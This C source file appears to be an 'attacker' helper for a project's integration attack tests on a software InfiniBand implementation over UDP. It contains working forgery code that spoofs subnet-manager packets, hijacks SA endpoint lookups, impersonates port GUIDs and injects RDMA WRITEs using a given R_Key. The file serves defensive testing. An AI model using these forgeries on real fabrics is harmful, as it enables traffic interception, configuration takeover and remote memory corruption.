/* SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only */
/*
 * An unfriendly local process, for the attack tests (tests/integration/
 * test_attack_*.sh).  It owns one UDP socket of its own on 127.0.0.1 and
 * sends real IBA packets from it -- what any process on the host can do.
 * Each command prints what came of the attempt; the tests judge.
 *
 *   attacker set-lid TARGET LID [COUNT] [--m-key K]
 *	COUNT SubnSet(PortInfo) with LID LID (LID-routed and directed
 *	route, half of them with PortState DOWN), M_Key K (default 0), then a
 *	SubnGet(PortInfo).  Prints "set answered: N of M" and
 *	"get: LID L M_Key K ProtectBits P M_KeyViolations V" (or "get: no
 *	answer").
 *   attacker claim-sm TARGET SECONDS
 *	For SECONDS, every 50 ms: SMPs to TARGET that claim to come from its
 *	SM (a SubnGet(NodeInfo), a SubnSet(PortInfo) with MasterSMLID 1
 *	LID-routed and one directed-route, a TrapRepress, an unasked
 *	SubnGetResp(SMInfo) saying MASTER), and answers every SA query that
 *	reaches it with an endpoint record pointing at itself.  Prints
 *	"from ADDR:PORT" (its own socket, which the victim's log names),
 *	"rounds: N" and "forged SMPs sent: N" (what left the socket), then
 *	"sa queries: N" and "data packets: N" (what it got to see of the
 *	victim's traffic).
 *   attacker claim-guid SM GUID SECONDS
 *	Acts as a port that traps to SM and answers NodeInfo with port GUID
 *	GUID (a live port's).  Prints "configured: LID L" when the SM gave it
 *	a LID, else "not configured".
 *   attacker forge-write TARGET SLID DLID QPN PSN VA RKEY LEN
 *	One RC RDMA WRITE Only of LEN bytes of 0xee, as the peer would send
 *	it, from this socket.  Prints "sent".
 *   attacker sa-lookup SM LID
 *	Asks SM's SA where LID lives (the vendor endpoint record).  Prints
 *	"endpoint ADDR:PORT" or "no record".
 *
 * TARGET and SM are ADDR:PORT.  Exit 0 when the attempt was made (whatever
 * came of it), 2 for bad arguments, 1 when the socket cannot be had.
 */
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "link/link.h"
#include "mgmt/mad_packet.h"
#include "wire/packet.h"
#include "wire/sa.h"
#include "wire/smp.h"

static struct sib_link *link_;

struct rx {
	int smp_resp, sa_queries, data, sets;
	uint16_t set_lid;
	struct ib_port_info pi;
	bool got_pi;
	/* claim-guid: the SM's last request to answer */
	uint8_t mad[IB_MAD_BYTES];
	struct sib_mad_addr a;
	struct sib_endpoint from;
	bool have_request;
	struct sib_endpoint_record rec;
	int sa_answers;
	uint16_t sa_status;
};

static uint64_t now_ns(void)
{
	return sib_link_now_ns();
}

static void rx_cb(void *arg, const uint8_t *buf, size_t len, const struct sib_endpoint *from)
{
	struct rx *r = arg;
	struct ib_packet pkt;
	struct sib_mad_addr a;
	const uint8_t *mad;

	if (ib_packet_decode(buf, len, &pkt) != IB_PKT_OK)
		return;
	if (pkt.bth.DestQP > SIB_QP1) {
		r->data++;
		return;
	}
	mad = sib_mgmt_parse(&pkt, &a);
	if (!mad)
		return;
	if (mad[1] == IB_MGMT_CLASS_SUBN_ADM) {
		struct ib_sa_mad m;

		ib_sa_mad_decode(&m, mad);
		if (mad[3] & IB_MAD_METHOD_RESP) {
			r->sa_answers++;
			r->sa_status = m.hdr.Status;
			if (!m.hdr.Status)
				sib_endpoint_record_decode(&r->rec, m.SubnAdmData);
			return;
		}
		r->sa_queries++;
		/* Whoever asks: "that LID lives here, at the attacker". */
		if (m.hdr.AttributeID == SIB_SA_ATTR_ENDPOINT_RECORD) {
			struct sib_endpoint_record rec;
			struct sib_mad_addr ra;
			uint8_t out[IB_MAD_BYTES];

			sib_endpoint_record_decode(&rec, m.SubnAdmData);
			rec.ep = link_->local;
			ib_mad_set_method(&m.hdr, IB_MAD_METHOD_GET_RESP);
			sib_endpoint_record_encode(&rec, m.SubnAdmData);
			ib_sa_mad_encode(&m, out);
			sib_mad_addr_reply(&a, 1, &ra);
			sib_mgmt_send(link_, &ra, out, from);
		}
		return;
	}
	if (mad[1] != IB_MGMT_CLASS_SUBN_LID_ROUTED && mad[1] != IB_MGMT_CLASS_SUBN_DIRECTED_ROUTE)
		return;
	if (mad[3] & IB_MAD_METHOD_RESP) {
		r->smp_resp++;
		if (mad[1] == IB_MGMT_CLASS_SUBN_LID_ROUTED &&
		    ib_bits_get(mad, 128, 16) == IB_SMP_ATTR_PORT_INFO) {
			struct ib_smp smp;

			ib_smp_decode(&smp, mad);
			ib_port_info_decode(&r->pi, smp.SMPData);
			r->got_pi = true;
		}
		return;
	}
	/* A request: what an SM sends a port (claim-guid answers it). */
	memcpy(r->mad, mad, IB_MAD_BYTES);
	r->a = a;
	r->from = *from;
	r->have_request = true;
}

/* Takes what arrives for up to ms milliseconds. */
static void listen_for(struct rx *r, int ms)
{
	uint64_t end = now_ns() + (uint64_t)ms * 1000000ull;

	for (;;) {
		uint64_t now = now_ns();
		struct pollfd pfd = { .fd = sib_link_wait_fd(link_), .events = POLLIN };

		while (sib_link_poll(link_, 64, rx_cb, r) > 0)
			;
		if (now >= end)
			return;
		if (sib_link_wait_arm(link_) > 0)
			continue;
		poll(&pfd, 1, (int)((end - now) / 1000000ull) + 1);
	}
}

static void smp_hdr(struct ib_smp *smp, uint8_t method, uint16_t attr, uint64_t m_key)
{
	memset(smp, 0, sizeof(*smp));
	smp->hdr.BaseVersion = IB_MAD_BASE_VERSION;
	smp->hdr.MgmtClass = IB_MGMT_CLASS_SUBN_LID_ROUTED;
	smp->hdr.ClassVersion = IB_SMP_CLASS_VERSION;
	ib_mad_set_method(&smp->hdr, method);
	smp->hdr.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
	smp->hdr.AttributeID = attr;
	smp->M_Key = m_key;
}

/* Sends smp to dst; 1 when it left the socket, else 0. */
static int send_smp(const struct ib_smp *smp, const struct sib_endpoint *dst)
{
	uint8_t mad[IB_MAD_BYTES];
	struct sib_mad_addr a;

	ib_smp_encode(smp, mad);
	/* From "LID 1", the SM's LID: a lie the LRH cannot prevent. */
	sib_mad_addr_init(&a, SIB_QP0, SIB_LID_PERMISSIVE, 1);
	return sib_mgmt_send(link_, &a, mad, dst) == 0;
}

/* A directed-route SMP to dst; 1 when it left the socket, else 0. */
static int send_dr_smp(uint8_t method, uint16_t attr, uint64_t m_key, const uint8_t *data,
		       const struct sib_endpoint *dst)
{
	uint8_t mad[IB_MAD_BYTES];
	struct sib_mad_addr a;
	struct ib_dr_smp dr;

	memset(&dr, 0, sizeof(dr));
	dr.BaseVersion = IB_MAD_BASE_VERSION;
	dr.MgmtClass = IB_MGMT_CLASS_SUBN_DIRECTED_ROUTE;
	dr.ClassVersion = IB_SMP_CLASS_VERSION;
	dr.Method = method;
	dr.HopCount = dr.HopPointer = 1;
	dr.InitialPath[1] = 1;
	dr.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
	dr.AttributeID = attr;
	dr.M_Key = m_key;
	dr.DrSLID = dr.DrDLID = SIB_LID_PERMISSIVE;
	if (data)
		memcpy(dr.SMPData, data, IB_SMP_DATA_BYTES);
	ib_dr_smp_encode(&dr, mad);
	sib_mad_addr_init(&a, SIB_QP0, SIB_LID_PERMISSIVE, SIB_LID_PERMISSIVE);
	return sib_mgmt_send(link_, &a, mad, dst) == 0;
}

static void port_info_data(uint8_t *data, uint16_t lid, uint8_t state)
{
	struct ib_port_info pi;

	memset(&pi, 0, sizeof(pi));
	pi.LID = lid;
	pi.MasterSMLID = 1;
	pi.PortState = state;
	pi.SubnetTimeOut = 18;
	ib_port_info_encode(&pi, data);
}

static int set_lid(const struct sib_endpoint *target, uint16_t lid, int count, uint64_t m_key)
{
	uint8_t data[IB_SMP_DATA_BYTES];
	struct rx r = { 0 };
	struct ib_smp smp;

	for (int i = 0; i < count; i++) {
		uint8_t state = i % 2 ? IB_PORT_STATE_DOWN : IB_PORT_STATE_ACTIVE;

		smp_hdr(&smp, IB_MAD_METHOD_SET, IB_SMP_ATTR_PORT_INFO, m_key);
		port_info_data(smp.SMPData, lid, state);
		send_smp(&smp, target);
		port_info_data(data, lid, state);
		send_dr_smp(IB_MAD_METHOD_SET, IB_SMP_ATTR_PORT_INFO, m_key, data, target);
		listen_for(&r, 20);
	}
	listen_for(&r, 300);
	printf("set answered: %d of %d\n", r.smp_resp, 2 * count);
	memset(&r, 0, sizeof(r));
	smp_hdr(&smp, IB_MAD_METHOD_GET, IB_SMP_ATTR_PORT_INFO, m_key);
	send_smp(&smp, target);
	listen_for(&r, 500);
	if (r.got_pi)
		printf("get: LID %u M_Key 0x%016llx ProtectBits %u M_KeyViolations %u\n", r.pi.LID,
		       (unsigned long long)r.pi.M_Key, r.pi.M_KeyProtectBits, r.pi.M_KeyViolations);
	else
		printf("get: no answer\n");
	return 0;
}

static int claim_sm(const struct sib_endpoint *target, int seconds)
{
	uint64_t end = now_ns() + (uint64_t)seconds * 1000000000ull;
	uint8_t data[IB_SMP_DATA_BYTES];
	char e[SIB_ENDPOINT_STRLEN];
	struct rx r = { 0 };
	struct ib_smp smp;
	int rounds = 0, sent = 0;

	while (now_ns() < end) {
		struct ib_sm_info si = { .GUID = 0x0200000000000666ull, .SMState = IB_SM_STATE_MASTER };

		sent += send_dr_smp(IB_MAD_METHOD_GET, IB_SMP_ATTR_NODE_INFO, 0, NULL, target);
		smp_hdr(&smp, IB_MAD_METHOD_SET, IB_SMP_ATTR_PORT_INFO, 0);
		port_info_data(smp.SMPData, 0, IB_PORT_STATE_NOP);
		sent += send_smp(&smp, target);
		port_info_data(data, 0, IB_PORT_STATE_NOP);
		sent += send_dr_smp(IB_MAD_METHOD_SET, IB_SMP_ATTR_PORT_INFO, 0, data, target);
		smp_hdr(&smp, IB_MAD_METHOD_TRAP_REPRESS, IB_SMP_ATTR_NOTICE, 0);
		sent += send_smp(&smp, target);
		smp_hdr(&smp, IB_MAD_METHOD_GET_RESP, IB_SMP_ATTR_SM_INFO, 0);
		ib_sm_info_encode(&si, smp.SMPData);
		sent += send_smp(&smp, target);
		rounds++;
		listen_for(&r, 50);
	}
	printf("from %s\nrounds: %d\nforged SMPs sent: %d\n", sib_endpoint_str(&link_->local, e),
	       rounds, sent);
	printf("sa queries: %d\ndata packets: %d\n", r.sa_queries, r.data);
	return 0;
}

/* Answers the SM's last request as a port with port GUID guid would. */
static void answer_as_port(struct rx *r, uint64_t guid)
{
	uint8_t out[IB_MAD_BYTES];
	struct sib_mad_addr ra;
	uint16_t attr;
	uint8_t method;
	uint8_t *data;
	struct ib_dr_smp dr;
	struct ib_smp smp;

	if (r->mad[1] == IB_MGMT_CLASS_SUBN_DIRECTED_ROUTE) {
		ib_dr_smp_decode(&dr, r->mad);
		method = dr.Method;
		attr = dr.AttributeID;
		data = dr.SMPData;
	} else {
		ib_smp_decode(&smp, r->mad);
		method = ib_mad_method(&smp.hdr);
		attr = smp.hdr.AttributeID;
		data = smp.SMPData;
	}
	if (method == IB_MAD_METHOD_TRAP_REPRESS)
		return;
	if (attr == IB_SMP_ATTR_NODE_INFO) {
		struct ib_node_info ni = { .BaseVersion = 1, .ClassVersion = 1, .NodeType = 1,
					   .NumPorts = 1, .NodeGUID = guid - 1, .PortGUID = guid,
					   .SystemImageGUID = guid - 1, .LocalPortNum = 1 };

		ib_node_info_encode(&ni, data);
	} else if (attr == IB_SMP_ATTR_PORT_INFO) {
		struct ib_port_info pi;

		ib_port_info_decode(&pi, data);
		if (method == IB_MAD_METHOD_SET) {
			r->sets++;
			r->set_lid = pi.LID;
		} else {
			memset(&pi, 0, sizeof(pi));
			pi.PortState = IB_PORT_STATE_INIT;
			pi.MTUCap = IB_MTU_4096;
			pi.LocalPortNum = 1;
		}
		ib_port_info_encode(&pi, data);
	}
	if (r->mad[1] == IB_MGMT_CLASS_SUBN_DIRECTED_ROUTE) {
		dr.R = 1;
		dr.D = 1;
		dr.Method = IB_MAD_METHOD_GET_RESP & 0x7f;
		dr.ReturnPath[dr.HopPointer] = 1;
		ib_dr_smp_encode(&dr, out);
	} else {
		ib_mad_set_method(&smp.hdr, IB_MAD_METHOD_GET_RESP);
		ib_smp_encode(&smp, out);
	}
	sib_mad_addr_reply(&r->a, SIB_LID_PERMISSIVE, &ra);
	sib_mgmt_send(link_, &ra, out, &r->from);
}

static int claim_guid(const struct sib_endpoint *sm, uint64_t guid, int seconds)
{
	uint64_t end = now_ns() + (uint64_t)seconds * 1000000000ull;
	struct rx r = { 0 };
	struct ib_smp smp;
	struct ib_notice n = { .IsGeneric = 1, .Type = IB_NOTICE_TYPE_URGENT,
			       .ProducerType = IB_NOTICE_PRODUCER_CA,
			       .TrapNumber = IB_TRAP_LINK_STATE_CHANGE };

	smp_hdr(&smp, IB_MAD_METHOD_TRAP, IB_SMP_ATTR_NOTICE, 0);
	ib_notice_encode(&n, smp.SMPData);
	send_smp(&smp, sm);
	while (now_ns() < end) {
		listen_for(&r, 20);
		if (r.have_request) {
			r.have_request = false;
			answer_as_port(&r, guid);
		}
	}
	if (r.sets && r.set_lid)
		printf("configured: LID %u\n", r.set_lid);
	else
		printf("not configured\n");
	return 0;
}

static int forge_write(const struct sib_endpoint *target, char **v)
{
	uint8_t buf[IB_MAX_PACKET], payload[4096];
	struct ib_packet pkt;
	uint32_t len = (uint32_t)strtoul(v[6], NULL, 0);
	size_t n;

	if (len > sizeof(payload))
		return 2;
	memset(payload, 0xee, sizeof(payload));
	memset(&pkt, 0, sizeof(pkt));
	pkt.lrh.LNH = IB_LNH_IBA_LOCAL;
	pkt.lrh.SLID = (uint16_t)strtoul(v[0], NULL, 0);
	pkt.lrh.DLID = (uint16_t)strtoul(v[1], NULL, 0);
	pkt.bth.OpCode = IB_OPCODE(IB_TRANSPORT_RC, IB_OP_WRITE_ONLY);
	pkt.bth.P_Key = 0xffff;
	pkt.bth.DestQP = (uint32_t)strtoul(v[2], NULL, 0);
	pkt.bth.PSN = (uint32_t)strtoul(v[3], NULL, 0);
	pkt.reth.VA = strtoull(v[4], NULL, 0);
	pkt.reth.R_Key = (uint32_t)strtoul(v[5], NULL, 0);
	pkt.reth.DMALen = len;
	n = ib_packet_encode(&pkt, payload, len, buf, sizeof(buf));
	if (!n || sib_link_send(link_, buf, n, target) || sib_link_flush(link_))
		return 1;
	printf("sent\n");
	return 0;
}

static int sa_lookup(const struct sib_endpoint *sm, uint16_t lid)
{
	struct sib_endpoint_record rec;
	uint8_t mad[IB_MAD_BYTES];
	char e[SIB_ENDPOINT_STRLEN];
	struct sib_mad_addr a;
	struct ib_sa_mad m;
	struct rx r = { 0 };

	memset(&m, 0, sizeof(m));
	m.hdr.BaseVersion = IB_MAD_BASE_VERSION;
	m.hdr.MgmtClass = IB_MGMT_CLASS_SUBN_ADM;
	m.hdr.ClassVersion = IB_SA_CLASS_VERSION;
	ib_mad_set_method(&m.hdr, IB_MAD_METHOD_GET);
	m.hdr.TransactionID = 0x5a5a;
	m.hdr.AttributeID = SIB_SA_ATTR_ENDPOINT_RECORD;
	m.ComponentMask = SIB_EPR_COMP_LID;
	memset(&rec, 0, sizeof(rec));
	rec.LID = lid;
	sib_endpoint_record_encode(&rec, m.SubnAdmData);
	ib_sa_mad_encode(&m, mad);
	sib_mad_addr_init(&a, SIB_QP1, SIB_SM_LID, SIB_LID_PERMISSIVE);
	sib_mgmt_send(link_, &a, mad, sm);
	listen_for(&r, 1000);
	if (r.sa_answers && !r.sa_status)
		printf("endpoint %s\n", sib_endpoint_str(&r.rec.ep, e));
	else
		printf("no record\n");
	return 0;
}

static int usage(void)
{
	fprintf(stderr, "usage: attacker set-lid TARGET LID [COUNT] [--m-key K]\n"
			"       attacker claim-sm TARGET SECONDS\n"
			"       attacker claim-guid SM GUID SECONDS\n"
			"       attacker forge-write TARGET SLID DLID QPN PSN VA RKEY LEN\n"
			"       attacker sa-lookup SM LID\n");
	return 2;
}

int main(int argc, char **argv)
{
	struct sib_endpoint target;
	int rc;

	if (argc < 3 || sib_endpoint_parse(argv[2], 0, &target))
		return usage();
	if (sib_link_udp_open("127.0.0.1", NULL, &link_))
		return 1;
	srand((unsigned)now_ns());
	if (!strcmp(argv[1], "set-lid") && argc >= 4) {
		uint64_t key = 0;
		int count = 10;

		for (int i = 4; i < argc; i++) {
			if (!strcmp(argv[i], "--m-key") && i + 1 < argc)
				key = strtoull(argv[++i], NULL, 0);
			else
				count = atoi(argv[i]);
		}
		rc = set_lid(&target, (uint16_t)strtoul(argv[3], NULL, 0), count, key);
	} else if (!strcmp(argv[1], "claim-sm") && argc == 4) {
		rc = claim_sm(&target, atoi(argv[3]));
	} else if (!strcmp(argv[1], "claim-guid") && argc == 5) {
		rc = claim_guid(&target, strtoull(argv[3], NULL, 0), atoi(argv[4]));
	} else if (!strcmp(argv[1], "forge-write") && argc == 10) {
		rc = forge_write(&target, argv + 3);
	} else if (!strcmp(argv[1], "sa-lookup") && argc == 4) {
		rc = sa_lookup(&target, (uint16_t)strtoul(argv[3], NULL, 0));
	} else {
		rc = usage();
	}
	fflush(stdout);
	sib_link_close(link_);
	return rc;
}
